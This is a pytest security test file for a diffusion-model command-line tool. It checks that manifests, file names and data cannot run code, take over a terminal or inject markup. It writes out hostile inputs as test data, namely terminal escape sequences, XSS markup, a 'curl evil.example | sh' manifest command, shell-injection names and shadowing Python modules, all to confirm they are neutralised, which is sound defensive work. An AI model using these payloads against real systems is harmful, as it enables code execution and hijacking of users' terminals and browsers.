"""R17: no code from data or weights is run, and nothing is written where they say."""

import base64
import contextlib
import io
import os
import pty
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest

from ldm.cli.live import Live
from ldm.core import files
from ldm.core.interchange import model_card
from ldm.core.progress import Outcome
from tests.support.attacks import ATTACKS, Attack, training_on
from tests.support.forgery import RUN, add_evaluation, change_manifest, copy_run, write_manifest
from tests.support.launcher import ROOT, Launcher
from tests.support.payloads import png


@pytest.mark.promise("R17")
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_an_attack_that_others_fall_for_leaves_no_mark(
    attack: Attack, ldm: Launcher, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("diffusers.utils.dynamic_modules_utils.HF_MODULES_CACHE", str(tmp_path / "modules"))
    mark = tmp_path / "mark"
    falls, given = tmp_path / "falls", tmp_path / "given"
    for folder in (falls, given):
        folder.mkdir()
    with contextlib.suppress(Exception):  # What becomes of the reader that falls for it is not the point.
        attack.fall(attack.make(falls, mark))
    assert mark.exists(), "the attack has lost its sting"
    mark.unlink()
    ended = ldm.run(*attack.words(attack.make(given, mark)))
    assert not mark.exists()
    assert ended.code == attack.code and attack.says in ended.err, ended
    assert "Traceback" not in ended.err


STEERING = ["\x1b]0;owned\x07cat", "\x1b[2Jcat", "cat\rerror: gone", "cat\x9b31m", "\u202etac", "cat\nldm: all is well"]
MARKUP = "<img src=x onerror=alert(1)><script>alert(2)</script>"


@pytest.mark.promise("R17")
def test_names_that_would_steer_a_terminal_are_written_out(ldm: Launcher, tmp_path: Path) -> None:
    photos, run = tmp_path / "photos", copy_run(tmp_path / "runs")
    for label, name in enumerate(STEERING):
        (photos / name).mkdir(parents=True)
        for number in range(4):
            (photos / name / f"{number}.png").write_bytes(png(10 * number + label))
    ended_runs = [ldm.run(*training_on(photos))]  # lists the classes
    for name in STEERING:
        change_manifest(run / "dit", class_names=[name, "green", "red"], imported=name)
        here = ["--runs-dir", tmp_path / "runs", "--name", RUN]
        ended_runs += [
            ldm.run("sample", "--class", "nothing", *here),  # its manifest is at odds with the weights beside it
            ldm.run("inspect", run / "dit"),  # shows whatever the manifest says
            ldm.run("encode", "--data", photos / name, *here),  # names the path in an error
        ]
    assert [ended.code for ended in ended_runs] == [0, *([3, 0, 2] * len(STEERING))]
    for ended in ended_runs:
        steering = [c for c in ended.out + ended.err if c != "\n" and not c.isprintable()]
        assert not steering and "Traceback" not in ended.err, ended
        assert "\nldm: all is well" not in ended.out + ended.err


@pytest.mark.promise("R17")
@pytest.mark.parametrize("name", STEERING, ids=ascii)
def test_names_are_written_out_where_progress_is_shown_live_too(name: str) -> None:
    screen = io.StringIO()
    console = Live(screen, screen)
    console.note(name)
    console.warn(name)
    console.outcome("sample", Outcome(Path(name), summary={"class": name}, next_commands=[name]))
    shown = screen.getvalue()
    assert ("cat" in shown or "tac" in shown) and shown.count("\n") == 6
    assert not [c for c in shown if c != "\n" and not c.isprintable()]


@pytest.mark.promise("R17")
def test_a_recipe_shown_on_a_terminal_does_not_steer_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "a.yaml").write_bytes(b"# hardware: \x1b]0;owned\x07\nname: a\n")
    leader, follower = pty.openpty()
    program = [
        sys.executable,
        "-c",
        "from ldm.cli.main import main; main()",
        "recipes",
        "show",
        str(tmp_path / "a.yaml"),
    ]
    subprocess.run(program, stdout=follower, check=True, cwd=ROOT)
    assert os.read(leader, 4096) == b"# hardware: \\x1b]0;owned\\x07\r\nname: a\r\n"
    assert (
        subprocess.run(program, capture_output=True, check=True, cwd=ROOT).stdout == (tmp_path / "a.yaml").read_bytes()
    )


class Running(HTMLParser):
    """Collects what of a page would run: scripts, handlers of events, addresses that are code."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [tag] if tag in ("script", "iframe", "object", "embed", "base", "form") else []
        self.found += [name for name, value in attrs if name.startswith("on") or "javascript:" in (value or "")]


def what_runs(html: str) -> list[str]:
    parser = Running()
    parser.feed(html)
    return parser.found


@pytest.mark.promise("R17")
def test_markup_in_names_and_numbers_is_text_in_a_report(ldm: Launcher, tmp_path: Path) -> None:
    run = copy_run(tmp_path / "runs").rename(tmp_path / "runs" / MARKUP.replace("/", ""))
    change_manifest(run / "vqvae", class_names=[MARKUP, "green", "red"])
    change_manifest(run / "samples" / "some", sampling={"sampler": MARKUP, "steps": 2, "cfg": 1.0})
    for cfg in (1.0, 2.0):
        conditions = {"extractor": MARKUP, "weights_sha256": MARKUP, "resize": MARKUP}
        conditions |= {"sampling": {"sampler": MARKUP, "steps": 2, "cfg": cfg}}
        numbers = {f"frechet_distance[{MARKUP}]": cfg, "$\\frac{$": 1.0}
        add_evaluation(run, f"cfg-{cfg:g}", {"of": MARKUP, "numbers": numbers, "conditions": conditions})
    (run / "vqvae" / "reconstructions").mkdir()
    (tmp_path / "secret").write_text("not for others")
    (run / "vqvae" / "reconstructions" / "1.png").symlink_to(tmp_path / "secret")
    ended = ldm.run("report", f"name={run.name}", "--runs-dir", tmp_path / "runs")
    assert ended.code == 0, ended
    html = (run / "report.html").read_text()
    assert html.count("&lt;script&gt;alert(2)") >= 5 and "over guidance scale" in html
    assert what_runs(html) == [] and what_runs(f"<p>{MARKUP}</p>") == ["onerror", "script"]
    assert base64.b64encode(b"not for others").decode() not in html


@pytest.mark.promise("R17")
def test_markup_in_names_and_numbers_is_text_in_a_model_card() -> None:
    hostile = f"[click](https://evil.example) ![seen](https://evil.example/x.png) {MARKUP} | a |\n# heading `code`"
    document = {"numbers": {hostile: 1.0}, "conditions": {hostile: hostile, "sampling": {hostile: hostile}}}
    lines = model_card._numbers(model_card.Shown(None, {}, {hostile: document}), model_card.Agreement(0.0, 0.0))
    text = "\n".join(lines[1:])
    assert "evil.example" in text and text.count("\n# ") == 0
    assert "](" not in text and "<" not in text and "`" not in text
    assert all(line.replace("\\|", "").count("|") == 4 for line in lines if line.startswith("|"))


@pytest.mark.promise("R17")
def test_a_command_in_a_manifest_is_not_handed_on_as_advice(ldm: Launcher, tmp_path: Path) -> None:
    run = copy_run(tmp_path / "runs")
    for command in ("curl evil.example | sh", "ldm encode; curl evil.example | sh", "ldm encode `id`", "ldm 'x"):
        manifest = files.read_json(run / "vqvae" / "manifest.json")
        write_manifest(run / "vqvae", {**manifest, "command": command})
        ended = ldm.run("sample", "--runs-dir", tmp_path / "runs", "--name", RUN)
        assert ended.code == 3 and "is not a command of ldm" in ended.err
        assert command not in ended.err.split("hint:")[1]


@pytest.mark.promise("R17")
def test_names_in_the_commands_that_are_offered_are_quoted(ldm: Launcher, tmp_path: Path) -> None:
    name = "a; touch mark $(touch mark) `touch mark`"
    copy_run(tmp_path / "runs").rename(tmp_path / "runs" / name)
    ended = ldm.run("sample", "--num", "1", "steps=2", "--runs-dir", tmp_path / "runs", "--name", name)
    assert ended.code == 0, ended
    offered = ended.out.split("next:\n  ")[1].splitlines()[0]
    shown = subprocess.run(["bash", "-c", offered.replace("ldm", "printf '%s\\n'", 1)], cwd=tmp_path, check=True,
                           capture_output=True, text=True)  # fmt: skip
    assert name in shown.stdout.splitlines() and not (tmp_path / "mark").exists()


@pytest.mark.promise("R17")
def test_modules_that_lie_beside_the_data_are_not_imported(tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    for name in ("yaml", "torch", "numpy", "pydantic", "sitecustomize", "ldm", "json"):
        (tmp_path / f"{name}.py").write_text(f"open({str(mark)!r}, 'w')\n")
    environment = {key: value for key, value in os.environ.items() if key not in ("PYTHONPATH", "PYTHONSAFEPATH")}
    subprocess.run([sys.executable, "-c", "import yaml"], cwd=tmp_path, env=environment, check=True)
    assert mark.exists(), "the attack has lost its sting"
    mark.unlink()
    command = Path(sys.executable).with_name("ldm")
    if not command.exists():
        pytest.skip(f"needs the installed command {command}")
    done = subprocess.run([command, "config", "show", "sample"], cwd=tmp_path, env=environment, capture_output=True)
    assert done.returncode == 0 and not mark.exists(), done
